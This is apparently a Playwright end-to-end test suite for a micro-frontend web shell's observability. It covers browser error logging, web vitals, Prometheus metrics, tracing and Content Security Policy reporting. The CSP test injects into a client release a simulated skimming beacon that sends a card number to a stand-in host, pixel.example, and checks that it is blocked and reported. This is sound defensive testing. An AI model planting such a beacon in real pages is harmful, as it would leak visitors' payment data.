import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { root } from '@spruce/bootstrap/environment.mjs';
import { freePort } from '@spruce/bootstrap/stack.mjs';
import { readPrometheusText, type Sample } from '@spruce/jest-setup/prometheus-text';
import { startTraceCollector } from '@spruce/jest-setup/trace-collector';
import { createReleaseOperations } from '../support/releases';
import { findChunkScript, type Stack, startStack } from '../support/stack';
import { expect, waitForHydration, test } from '../support/test';
import { startTlsFront } from '../support/tls-front';

test.describe.configure({ mode: 'serial' });

let stack: Stack;
let metricsPort: number;
let collector: Awaited<ReturnType<typeof startTraceCollector>>;
test.beforeAll(async () => {
  test.setTimeout(120_000);
  metricsPort = await freePort();
  collector = await startTraceCollector();
  const otel = { OTEL_EXPORTER_OTLP_ENDPOINT: collector.url, OTEL_BSP_SCHEDULE_DELAY: '200' };
  stack = await startStack({ shellEnv: { RENDER_PROCESSES: '2', METRICS_PORT: String(metricsPort), ...otel }, apiEnv: otel });
});
test.afterAll(async () => {
  await stack?.stop();
  collector?.close();
});

const findLogLines = async (message: string) => {
  const lines = (await readFile(stack.shellLog, 'utf8')).split('\n').filter((line) => line.includes(message));
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>);
};
const metrics = async (): Promise<Sample[]> =>
  readPrometheusText(await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text()).samples;
const sum = (samples: Sample[], name: string, labels: Record<string, string> = {}) =>
  samples
    .filter((sample) => sample.name === name && Object.entries(labels).every(([key, value]) => sample.labels[key] === value))
    .reduce((total, { value }) => total + value, 0);

async function findLineNumber(file: string, text: string): Promise<number> {
  const lines = (await readFile(join(root, file), 'utf8')).split('\n');
  return lines.findIndex((line) => line.includes(text)) + 1;
}

test("logs an error in a remote's browser code with the release and the source line", async ({ page, allowedErrors }) => {
  allowedErrors.patterns.push(/planted/);
  await page.addInitScript(() => {
    Element.prototype.scrollIntoView = () => {
      throw new TypeError('planted for mali@spruce.example');
    };
  });
  const reported = page.waitForResponse((response) => response.url().endsWith('/-/reports'));
  await page.goto(`${stack.url}/product/nara-3-seat-sofa?email=mali@spruce.example`);
  await waitForHydration(page);
  // Clicks by script, because Playwright's own click would scroll to the link before the click.
  await page
    .locator('a[href="#fit"]')
    .first()
    .evaluate((link: HTMLElement) => link.click());
  expect((await reported).status()).toBe(204);
  await expect.poll(async () => (await findLogLines('an error in browsers')).length).toBe(1);
  const [line] = await findLogLines('an error in browsers');
  const { remotes } = (await (await fetch(`${stack.url}/readyz`)).json()) as { remotes: Record<string, string> };
  const source = 'apps/catalog/src/pages/product/buy/buy-facts.tsx';
  expect(line).toMatchObject({
    release: `catalog@${remotes['catalog']}`,
    kind: 'uncaught',
    page: 'catalog.product',
    error: 'TypeError: planted for …',
  });
  expect((line!['stack'] as string[])[0]).toMatch(new RegExp(`^${source}:${await findLineNumber(source, 'target.scrollIntoView(')}:\\d+$`));
  expect(sum(await metrics(), 'spruce_browser_errors_total', { remote: `catalog@${remotes['catalog']}`, kind: 'uncaught' })).toBe(1);
});

test('sends web vitals when the visitor leaves the page, without cookies; serves no source maps', async ({ page, context }) => {
  await page.goto(`${stack.url}/product`);
  await waitForHydration(page);
  const script = await page.evaluate(
    () => performance.getEntriesByType('resource').find(({ name }) => /\/shell\/main\..*js$/.test(name))!.name,
  );
  expect((await page.request.get(`${script}.map`)).status()).toBe(404);
  expect((await page.request.get(script.replace(/shell\/(.*)$/, 'shell/../maps/$1.map'))).status()).toBe(404);
  expect(await page.evaluate(async (url) => (await fetch(url)).text(), script)).not.toContain('sourceMappingURL');
  const cookies = await context.cookies();
  // The script that sends the report loads after the visitor's first action, or after some seconds.
  await page.waitForFunction(
    (file) => performance.getEntriesByType('resource').some(({ name }) => name.endsWith(file)),
    findChunkScript('shell', 'frame.quiet'),
  );
  await page.locator('h1').first().click();
  const reported = page.waitForRequest((request) => request.url().endsWith('/-/reports'));
  await page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { value: 'hidden' });
    document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
  });
  expect((await reported).method()).toBe('POST');
  await expect.poll(async () => sum(await metrics(), 'spruce_browser_vital_seconds_count', { vital: 'lcp' })).toBeGreaterThan(0);
  expect(await context.cookies()).toEqual(cookies);
});

test('exposes counters of all processes to Prometheus; the counters increase with each request', async () => {
  const before = await metrics();
  for (let visit = 0; visit < 20; visit += 1)
    expect((await fetch(`${stack.url}/product`, { headers: { connection: 'close' } })).status).toBe(200);
  const after = await metrics();
  const listing = { route: 'catalog.product-list', status: '2xx' };
  const name = 'spruce_http_request_seconds_count';
  expect(sum(after, name, listing) - sum(before, name, listing)).toBe(20);
  expect(sum(after, 'spruce_pages_total', { source: 'fresh' })).toBeGreaterThan(sum(before, 'spruce_pages_total', { source: 'fresh' }));
  expect(sum(after, 'spruce_render_processes')).toBe(2);
  expect(new Set(after.flatMap(({ labels }) => labels['process'] ?? []))).toEqual(new Set(['1', '2']));
  expect(sum(after, 'spruce_release_proofs_total', { app: 'catalog', result: 'good' })).toBe(1);
  expect(sum(after, 'spruce_release_live', { app: 'catalog' })).toBe(2);
});

test('traces an API call with its release from the browser through the shell to the API', async ({ page }) => {
  await page.goto(`${stack.url}/product`);
  await waitForHydration(page);
  await page.waitForFunction(() => '__SPRUCE_TRACE__' in window);
  const asked = page.waitForRequest((request) => request.url().includes('/sp/v1/') && 'traceparent' in request.headers());
  await page.locator('main a[href^="/product/"]').first().click();
  const { traceparent = '' } = (await asked).headers();
  const [, trace, browser] = traceparent.split('-');
  const spans = () => collector.spans.filter(({ traceId }) => traceId === trace);
  await expect
    .poll(() => new Set(spans().map(({ service }) => service)), { timeout: 20_000 })
    .toEqual(new Set(['spruce-shell', 'spruce-api']));
  const proxied = spans().find(({ service, parentSpanId }) => service === 'spruce-shell' && parentSpanId === browser)!;
  expect(proxied).toMatchObject({ name: 'GET /sp/v1/*', attributes: { 'spruce.remote': expect.stringMatching(/^catalog@/) } });
  const answered = spans().find(({ service, parentSpanId }) => service === 'spruce-api' && parentSpanId === proxied.spanId)!;
  expect(answered.attributes).toMatchObject({ 'spruce.remote': proxied.attributes['spruce.remote'], 'http.response.status_code': 200 });
  expect(answered.attributes['http.route']).toMatch(/^\/sp\/v1\//);
});

test('traces a page render with its API calls', async () => {
  await fetch(`${stack.url}/product?brand=none-of-them`);
  const rendered = () => collector.spans.filter(({ name }) => name === 'GET catalog.product-list').map(({ traceId }) => traceId);
  await expect
    .poll(() => rendered().some((id) => collector.spans.some(({ traceId, service }) => traceId === id && service === 'spruce-api')), {
      timeout: 20_000,
    })
    .toBe(true);
});

test('logs and counts a violation of the Content Security Policy with its release', async ({ playwright, launchOptions }) => {
  test.setTimeout(120_000);
  const releases = createReleaseOperations(stack);
  const original = await releases.published('catalog');
  await releases.publishCopy('catalog', original, '7.0.0');
  await releases.changeClientFile(
    'catalog',
    '7.0.0',
    ({ entry }) => entry,
    (code) => `${code};fetch('https://pixel.example/seen?card=4242').catch(() => {});`,
  );
  await releases.promote('catalog', '7.0.0');
  await expect.poll(async () => (await fetch(`${stack.url}/product`)).text(), { timeout: 40_000 }).toContain('/catalog/7.0.0/');
  const front = await startTlsFront(stack.url);
  // These flags make the browser send reports at once instead of after a minute, and accept a self-signed certificate.
  const args = [...(launchOptions.args ?? []), '--short-reporting-delay', '--ignore-certificate-errors'];
  const browser = await playwright.chromium.launch({ ...launchOptions, args });
  try {
    const page = await browser.newPage();
    const refused = page.waitForEvent('console', { predicate: (message) => message.text().includes('Content Security Policy') });
    await page.goto(`${front.url}/product`);
    expect((await refused).text()).toContain('pixel.example');
    const said = () => findLogLines('refused in browsers by the Content-Security-Policy');
    await expect.poll(async () => (await said()).length, { timeout: 60_000 }).toBeGreaterThan(0);
    expect(await said()).toMatchObject([{ release: 'catalog@7.0.0', directive: 'connect-src', blocked: 'https://pixel.example' }]);
    expect(JSON.stringify(await said())).not.toContain('4242');
    expect(sum(await metrics(), 'spruce_csp_reports_total', { remote: 'catalog@7.0.0', directive: 'connect-src' })).toBeGreaterThan(0);
  } finally {
    await browser.close();
    await front.close();
  }
});
